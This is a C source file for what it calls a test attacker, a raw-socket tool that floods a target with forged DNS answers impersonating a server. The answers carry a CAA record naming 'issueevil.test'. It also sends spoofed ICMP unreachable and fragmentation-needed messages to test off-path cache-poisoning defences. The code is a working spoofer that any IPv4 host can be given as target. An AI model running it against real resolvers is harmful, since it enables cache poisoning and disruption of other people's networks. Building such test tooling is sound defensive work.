// SPDX-License-Identifier: BSD-3-Clause
// An off-path attacker for tests: sends forged packets that claim to come from a server, without seeing any traffic
// but what a flood can know: addresses, the port range and (at best) the question. IPv4 over a packet socket.
//
// Modes: blind     any ID and port, the right question in the case as given
//        wrong-case  the same with a random 0x20 case
//        wrong-question  another name
//        port      one known port (--port), any ID
//        icmp      ICMP destination unreachable and fragmentation needed, quoting a query to the server
// Prints "sent=N" at the end (--count, or SIGTERM). Exit status 1 on bad options.

#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define FRAME_MAX 512
#define IP_OFFSET 14
#define L4_OFFSET 34
#define DNS_OFFSET 42
#define ICMP_QUOTE_BYTES 28 // IPv4 header and 8 octets of UDP (RFC 792)

enum mode { MODE_BLIND, MODE_WRONG_CASE, MODE_WRONG_QUESTION, MODE_PORT, MODE_ICMP };
static const char *const mode_names[] = {"blind", "wrong-case", "wrong-question", "port", "icmp"};

struct attack {
	const char *interface;
	enum mode mode;
	struct in_addr from; // the server that is impersonated
	struct in_addr to;
	uint8_t to_mac[6];
	uint8_t from_mac[6];
	uint16_t first_port;
	uint16_t last_port;
	uint16_t type;
	uint64_t rate;  // packets per second; 0: as fast as possible
	uint64_t count; // 0: until SIGTERM
	uint8_t name[256];
	size_t name_length;
	uint64_t random;
};

static volatile sig_atomic_t is_ended;

static void on_signal(int number)
{
	(void)number;
	is_ended = 1;
}

static _Noreturn void fail(const char *what, const char *why)
{
	fprintf(stderr, "spoofer: %s: %s\n", what, why);
	exit(1);
}

// xorshift64*: a guess needs no better chance than this.
static uint32_t next_random(struct attack *attack)
{
	attack->random ^= attack->random >> 12;
	attack->random ^= attack->random << 25;
	attack->random ^= attack->random >> 27;
	return (uint32_t)((attack->random * 0x2545f4914f6cdd1dull) >> 32);
}

static void put_u16(uint8_t *at, uint32_t value)
{
	at[0] = (uint8_t)(value >> 8);
	at[1] = (uint8_t)value;
}

static uint32_t sum_octets(const uint8_t *octets, size_t length, uint32_t sum)
{
	for (size_t i = 0; i + 1 < length; i += 2) {
		sum += (uint32_t)octets[i] << 8 | octets[i + 1];
	}
	return length % 2 != 0 ? sum + ((uint32_t)octets[length - 1] << 8) : sum;
}

static uint16_t fold_sum(uint32_t sum)
{
	while (sum >> 16 != 0) {
		sum = (sum & 0xffff) + (sum >> 16);
	}
	return (uint16_t)~sum;
}

static void write_ip_header(uint8_t *ip, uint8_t protocol, size_t payload_length,
			    struct in_addr source, struct in_addr destination)
{
	memset(ip, 0, 20);
	ip[0] = 0x45;
	put_u16(ip + 2, (uint32_t)(20 + payload_length));
	ip[8] = 64;
	ip[9] = protocol;
	memcpy(ip + 12, &source, 4);
	memcpy(ip + 16, &destination, 4);
	put_u16(ip + 10, fold_sum(sum_octets(ip, 20, 0)));
}

static size_t write_answer(struct attack *attack, uint8_t *dns)
{
	static const uint8_t evil[] = {0,   5,   'i', 's', 's', 'u', 'e', 'e',
				       'v', 'i', 'l', '.', 't', 'e', 's', 't'};
	uint8_t *at = dns;
	put_u16(at, next_random(attack));
	memcpy(at + 2, "\x84\x00\0\1\0\1\0\0\0\0", 10);
	at += 12;
	memcpy(at, attack->name, attack->name_length);
	if (attack->mode == MODE_WRONG_QUESTION) {
		at[1] = (uint8_t)('a' + next_random(attack) % 26);
	}
	for (size_t i = 0; attack->mode == MODE_WRONG_CASE && i < attack->name_length; i++) {
		if ((at[i] | 0x20) >= 'a' && (at[i] | 0x20) <= 'z') {
			at[i] ^= (uint8_t)(next_random(attack) & 0x20);
		}
	}
	at += attack->name_length;
	put_u16(at, attack->type);
	put_u16(at + 2, 1);
	memcpy(at + 4, "\xc0\x0c\x01\x01\0\1\0\0\x0e\x10", 10); // CAA IN, TTL 3600
	put_u16(at + 14, sizeof(evil));
	memcpy(at + 16, evil, sizeof(evil));
	return (size_t)(at + 16 + sizeof(evil) - dns);
}

static size_t write_udp(struct attack *attack, uint8_t *frame)
{
	uint8_t *udp = frame + L4_OFFSET;
	size_t length = 8 + write_answer(attack, frame + DNS_OFFSET);
	uint32_t ports = (uint32_t)(attack->last_port - attack->first_port) + 1;
	put_u16(udp, 53);
	put_u16(udp + 2, attack->first_port + next_random(attack) % ports);
	put_u16(udp + 4, (uint32_t)length);
	put_u16(udp + 6, 0);
	uint32_t sum = sum_octets((const uint8_t *)&attack->from, 4, 17 + (uint32_t)length);
	sum = sum_octets((const uint8_t *)&attack->to, 4, sum);
	uint16_t checksum = fold_sum(sum_octets(udp, length, sum));
	put_u16(udp + 6, checksum == 0 ? 0xffff : checksum);
	write_ip_header(frame + IP_OFFSET, 17, length, attack->from, attack->to);
	return L4_OFFSET + length;
}

// Port unreachable and fragmentation needed, in turn by chance, about a query the victim may have sent.
static size_t write_icmp(struct attack *attack, uint8_t *frame)
{
	uint8_t *icmp = frame + L4_OFFSET;
	uint32_t ports = (uint32_t)(attack->last_port - attack->first_port) + 1;
	bool is_too_big = next_random(attack) & 1;
	memset(icmp, 0, 8);
	icmp[0] = 3;
	icmp[1] = is_too_big ? 4 : 3;
	put_u16(icmp + 6, is_too_big ? 68 : 0);
	write_ip_header(icmp + 8, 17, 60, attack->to, attack->from);
	put_u16(icmp + 28, attack->first_port + next_random(attack) % ports);
	put_u16(icmp + 30, 53);
	put_u16(icmp + 32, 60);
	put_u16(icmp + 34, 0);
	put_u16(icmp + 2, fold_sum(sum_octets(icmp, 8 + ICMP_QUOTE_BYTES, 0)));
	write_ip_header(frame + IP_OFFSET, 1, 8 + ICMP_QUOTE_BYTES, attack->from, attack->to);
	return L4_OFFSET + 8 + ICMP_QUOTE_BYTES;
}

static size_t write_frame(struct attack *attack, uint8_t *frame)
{
	memcpy(frame, attack->to_mac, 6);
	memcpy(frame + 6, attack->from_mac, 6);
	put_u16(frame + 12, ETHERTYPE_IP);
	return attack->mode == MODE_ICMP ? write_icmp(attack, frame) : write_udp(attack, frame);
}

static uint64_t clock_now_ns(void)
{
	struct timespec now;
	clock_gettime(CLOCK_MONOTONIC, &now);
	return (uint64_t)now.tv_sec * 1000000000u + (uint64_t)now.tv_nsec;
}

static void wait_for_rate(const struct attack *attack, uint64_t started_ns, uint64_t sent)
{
	if (attack->rate == 0) {
		return;
	}
	uint64_t due_ns = started_ns + sent * 1000000000u / attack->rate;
	struct timespec due = {(time_t)(due_ns / 1000000000u), (long)(due_ns % 1000000000u)};
	clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &due, NULL);
}

static uint64_t run_attack(struct attack *attack, int fd)
{
	static uint8_t frames[BATCH][FRAME_MAX];
	struct mmsghdr messages[BATCH];
	struct iovec parts[BATCH];
	uint64_t started_ns = clock_now_ns();
	uint64_t sent = 0;
	memset(messages, 0, sizeof(messages));
	while (!is_ended && (attack->count == 0 || sent < attack->count)) {
		unsigned batch = BATCH;
		if (attack->count != 0 && attack->count - sent < BATCH) {
			batch = (unsigned)(attack->count - sent);
		}
		for (unsigned i = 0; i < batch; i++) {
			parts[i].iov_base = frames[i];
			parts[i].iov_len = write_frame(attack, frames[i]);
			messages[i].msg_hdr.msg_iov = &parts[i];
			messages[i].msg_hdr.msg_iovlen = 1;
		}
		int done = sendmmsg(fd, messages, batch, 0);
		if (done < 0 && errno != ENOBUFS && errno != EINTR && errno != EAGAIN) {
			fail("sendmmsg", strerror(errno));
		}
		sent += done > 0 ? (uint64_t)done : 0;
		wait_for_rate(attack, started_ns, sent);
	}
	return sent;
}

static int open_socket(struct attack *attack)
{
	struct ifreq request = {0};
	int fd = socket(AF_PACKET, SOCK_RAW, 0);
	struct sockaddr_ll address = {.sll_family = AF_PACKET,
				      .sll_ifindex = (int)if_nametoindex(attack->interface)};
	if (fd < 0 || address.sll_ifindex == 0 ||
	    bind(fd, (struct sockaddr *)&address, sizeof(address)) < 0) {
		fail(attack->interface, strerror(errno));
	}
	snprintf(request.ifr_name, sizeof(request.ifr_name), "%s", attack->interface);
	if (ioctl(fd, SIOCGIFHWADDR, &request) < 0) {
		fail(attack->interface, strerror(errno));
	}
	memcpy(attack->from_mac, request.ifr_hwaddr.sa_data, 6);
	return fd;
}

static uint64_t parse_number(const char *text, const char *option, uint64_t maximum)
{
	char *end;
	errno = 0;
	unsigned long long value = strtoull(text, &end, 10);
	if (errno != 0 || end == text || *end != '\0' || value > maximum) {
		fail(option, "not a number in range");
	}
	return value;
}

static void parse_name(struct attack *attack, const char *text)
{
	size_t length = 0;
	while (*text != '\0') {
		size_t label = strcspn(text, ".");
		if (label == 0 || label > 63 || length + label + 2 > 255) {
			fail("--name", "not a domain name");
		}
		attack->name[length] = (uint8_t)label;
		memcpy(attack->name + length + 1, text, label);
		length += label + 1;
		text += label + (text[label] == '.');
	}
	attack->name[length] = 0;
	attack->name_length = length + 1;
}

static enum mode parse_mode(const char *text)
{
	for (size_t i = 0; i < sizeof(mode_names) / sizeof(mode_names[0]); i++) {
		if (strcmp(text, mode_names[i]) == 0) {
			return (enum mode)i;
		}
	}
	fail("--mode", "give blind, wrong-case, wrong-question, port or icmp");
}

static void parse_address(const char *text, const char *option, struct in_addr *address)
{
	if (inet_pton(AF_INET, text, address) != 1) {
		fail(option, "not an IPv4 address");
	}
}

static void parse_mac(const char *text, uint8_t mac[static 6])
{
	int used = 0;
	if (sscanf(text, "%2hhx:%2hhx:%2hhx:%2hhx:%2hhx:%2hhx%n", &mac[0], &mac[1], &mac[2],
		   &mac[3], &mac[4], &mac[5], &used) != 6 ||
	    text[used] != '\0') {
		fail("--to-mac", "not a MAC address");
	}
}

static void parse_option(struct attack *attack, int option)
{
	switch (option) {
	case 'i':
		attack->interface = optarg;
		break;
	case 'm':
		attack->mode = parse_mode(optarg);
		break;
	case 'f':
		parse_address(optarg, "--from", &attack->from);
		break;
	case 't':
		parse_address(optarg, "--to", &attack->to);
		break;
	case 'M':
		parse_mac(optarg, attack->to_mac);
		break;
	case 'p':
		attack->first_port = (uint16_t)parse_number(optarg, "--port", 65535);
		attack->last_port = attack->first_port;
		break;
	case 'F':
		attack->first_port = (uint16_t)parse_number(optarg, "--first-port", 65535);
		break;
	case 'L':
		attack->last_port = (uint16_t)parse_number(optarg, "--last-port", 65535);
		break;
	case 'r':
		attack->rate = parse_number(optarg, "--rate", 100000000);
		break;
	case 'c':
		attack->count = parse_number(optarg, "--count", UINT64_MAX / 2000000000u);
		break;
	case 'n':
		parse_name(attack, optarg);
		break;
	default:
		exit(1);
	}
}

int main(int argc, char **argv)
{
	static const struct option options[] = {{"interface", required_argument, NULL, 'i'},
						{"mode", required_argument, NULL, 'm'},
						{"from", required_argument, NULL, 'f'},
						{"to", required_argument, NULL, 't'},
						{"to-mac", required_argument, NULL, 'M'},
						{"port", required_argument, NULL, 'p'},
						{"first-port", required_argument, NULL, 'F'},
						{"last-port", required_argument, NULL, 'L'},
						{"rate", required_argument, NULL, 'r'},
						{"count", required_argument, NULL, 'c'},
						{"name", required_argument, NULL, 'n'},
						{NULL, 0, NULL, 0}};
	struct attack attack = {.first_port = 16384, .last_port = 32767, .type = 257};
	memset(attack.to_mac, 0xff, sizeof(attack.to_mac));
	parse_name(&attack, "www.example.test");
	int option;
	while ((option = getopt_long(argc, argv, "", options, NULL)) != -1) {
		parse_option(&attack, option);
	}
	if (attack.interface == NULL || attack.from.s_addr == 0 || attack.to.s_addr == 0 ||
	    attack.last_port < attack.first_port) {
		fail("usage", "--interface IF --from SERVER --to VICTIM [--to-mac MAC] [--mode M] "
			      "[--name N] "
			      "[--first-port P --last-port P | --port P] [--rate N] [--count N]");
	}
	if (getrandom(&attack.random, sizeof(attack.random), 0) != sizeof(attack.random)) {
		fail("getrandom", strerror(errno));
	}
	attack.random |= 1;
	struct sigaction action = {.sa_handler = on_signal};
	sigaction(SIGTERM, &action, NULL);
	sigaction(SIGINT, &action, NULL);
	printf("sent=%llu\n", (unsigned long long)run_attack(&attack, open_socket(&attack)));
	return 0;
}
